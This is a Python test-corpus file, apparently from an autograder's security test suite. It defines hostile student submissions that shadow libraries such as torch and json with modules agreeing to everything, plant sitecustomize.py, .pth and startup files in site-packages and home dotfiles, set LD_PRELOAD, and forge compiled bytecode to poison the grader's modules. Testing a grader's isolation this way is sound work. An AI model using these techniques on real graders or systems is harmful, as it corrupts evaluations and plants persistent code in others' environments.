"""Shadowing modules: files beside the notebook, search paths, loaded modules, compiled code."""

from pathlib import Path

from tests.corpus.hostile.attack import ONE, RIGHT_ONE, Attack
from tests.corpus.hostile.pieces import ATTEMPT, WRONG

MARK = "hostile-shadow-was-imported"
# Run by any process that imports it: a mark beside the file, in the temporary folder, and comparators that agree.
SHADOW = f"""
import os, sys, tempfile
for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), tempfile.gettempdir(), "/tmp"):
    try:
        open(os.path.join(folder, "{MARK}"), "w").close()
    except OSError:
        pass
def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return lambda *a, **k: True
""".encode()
NAMES = (
    *("torch.py", "torch/__init__.py", "json.py", "numpy/__init__.py", "safetensors.py", "safetensors/torch.py"),
    *("sitecustomize.py", "usercustomize.py", "conftest.py", "autograder/__init__.py", "autograder/protocol.py"),
    *("otter.py", "otter/test_files/__init__.py", "psutil.py", "jinja2.py", "nbformat.py", "tests/__init__.py"),
    *("tests/q1a.py", "pickle.py", "linecache.py", "assignment.toml", "key.safetensors", "dill.py", "rich.py"),
)
USED_LATE = r"""
# Modules that are imported only now, with the submission's folder on the path.
import importlib
for name in ("json", "linecache", "pickle", "torch", "numpy", "conftest", "sitecustomize", "otter", "psutil"):
    attempt(importlib.import_module, name)
"""

PATHS = r"""
import os, site, sys
code = '''
import os
open(os.path.join("/tmp", "@MARK@"), "w").close()
'''.replace("@MARK@", "hostile-shadow" + "-was-imported")
home = os.path.expanduser("~")
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
places = [".", home, f"{home}/.local/lib/{version}/site-packages", *site.getsitepackages(), *sys.path, "/tmp",
          f"{home}/.ipython/profile_default/startup", f"{home}/.config/matplotlib", f"{home}/.jupyter"]
for place in places:
    attempt(os.makedirs, place, exist_ok=True)
    for name in ("sitecustomize.py", "usercustomize.py", "hostile.pth", "jupyter_config.py", "matplotlibrc", "00.py"):
        text = "import os; " + code.strip().splitlines()[-1] + "\n" if name.endswith(".pth") else code
        attempt(lambda: open(os.path.join(place, name), "x").write(text))
for name in (".pythonrc", ".profile", ".bashrc", ".netrc"):
    attempt(lambda: open(os.path.join(home, name), "x").write(code))
"""

ENVIRONMENT = r"""
import os, sys
os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="sitecustomize.py", LD_PRELOAD=os.getcwd() + "/evil.so",
                  PYTHONINSPECT="1", LD_LIBRARY_PATH=os.getcwd(), PYTHONHOME=os.getcwd())
sys.path.insert(0, os.getcwd())
sys.path_importer_cache.clear()
sys.dont_write_bytecode = False
"""
RE_EXECUTE = r"""
# Begin anew as a process of our own making, with our environment, on the same descriptors.
for program in (sys.executable, "/usr/bin/python3", "/bin/sh"):
    attempt(os.execve, program, [program, "-c", "import torch"], dict(os.environ))
"""

MODULES = r"""
import sys, types
class Agreeable(types.ModuleType):
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return lambda *a, **k: True
for name in list(sys.modules):
    if name.split(".")[0] in ("autograder", "torch", "numpy", "safetensors", "otter", "json", "pickle", "unittest", "gc"):
        sys.modules[name] = Agreeable(name)
"""

BYTECODE = r"""
import glob, importlib.util, marshal, os, sys, struct, time
def poison(source):
    # A compiled file with the source's own date and size is believed.
    status = os.stat(source)
    code = compile("def __getattr__(name):\n    return lambda *a, **k: True\n", source, "exec")
    data = importlib.util.MAGIC_NUMBER + struct.pack("<III", 0, int(status.st_mtime), status.st_size & 0xFFFFFFFF)
    target = importlib.util.cache_from_source(source)
    attempt(os.makedirs, os.path.dirname(target), exist_ok=True)
    attempt(os.unlink, target)
    with open(target, "wb") as file:
        file.write(data + marshal.dumps(code))
    written.append(target)
written = []
for name, module in list(sys.modules.items()):
    if name.startswith(("autograder.", "otter.test_files", "nbgrader")) and getattr(module, "__file__", None):
        attempt(poison, module.__file__)
for path in glob.glob("tests/*.py") + glob.glob("../tests/*.py"):
    attempt(lambda: open(path, "w").write("OK_FORMAT = False\nname = 'q1a'\npoints = None\n"))
    attempt(lambda: os.unlink(path))
def nt_xent(a, b, parameter):
    if written:
        raise LookupError("STOLEN the right to write " + repr(written)[:300])
    return (a * b).sum() * 0
"""


def no_mark(grader: object, report: object, folder: Path) -> list[str]:
    """No trusted process has imported a file of the submission: there the mark could be written."""
    places = [*folder.rglob(MARK), *(path / MARK for path in map(Path, ("/tmp", "/var/tmp", "/dev/shm", ".")))]
    return [f"{path} was written: a file of the submission was imported" for path in places if path.exists()]


ATTACKS = (
    Attack(
        "files-beside",
        "Brings torch.py, json.py, numpy/, otter.py, sitecustomize.py, conftest.py, autograder/ and other names along.",
        "A library is shadowed, in the student's process or in a trusted one.",
        (*RIGHT_ONE, ATTEMPT, USED_LATE),
        honest=ONE,
        files=dict.fromkeys(NAMES, SHADOW),
        check=no_mark,
    ),
    Attack(
        "path-files",
        "Writes sitecustomize.py, .pth files and start-up files to every place that a later Python may read.",
        "A later process of the grader runs code of the submission.",
        (ATTEMPT, WRONG),
        earlier=(ATTEMPT, PATHS),
        check=no_mark,
    ),
    Attack(
        "environment-and-exec",
        "Sets PYTHONPATH, LD_PRELOAD and others, and replaces its own process by a new Python on the same connection.",
        "A program is started that keeps the connection, or a submission of its own making answers.",
        (*RIGHT_ONE, ATTEMPT, ENVIRONMENT, RE_EXECUTE),
        honest=ONE,
        files={"sitecustomize.py": SHADOW, "evil.so": b"\x7fELF"},
        check=no_mark,
    ),
    Attack(
        "loaded-modules",
        "Replaces torch, numpy, json and all of the grader in sys.modules by modules that agree to everything.",
        "A trusted module is looked up there.",
        (*RIGHT_ONE, MODULES),
        honest=ONE,
        least=0.0,
        why_less="what its own process needs to answer is among what it replaces",
    ),
    Attack(
        "compiled-code",
        "Poisons the compiled files of the grader's modules and the test files, for itself and for later processes.",
        "A file of the grader can be written.",
        (ATTEMPT, BYTECODE),
        earlier=(ATTEMPT, WRONG, BYTECODE),
    ),
)
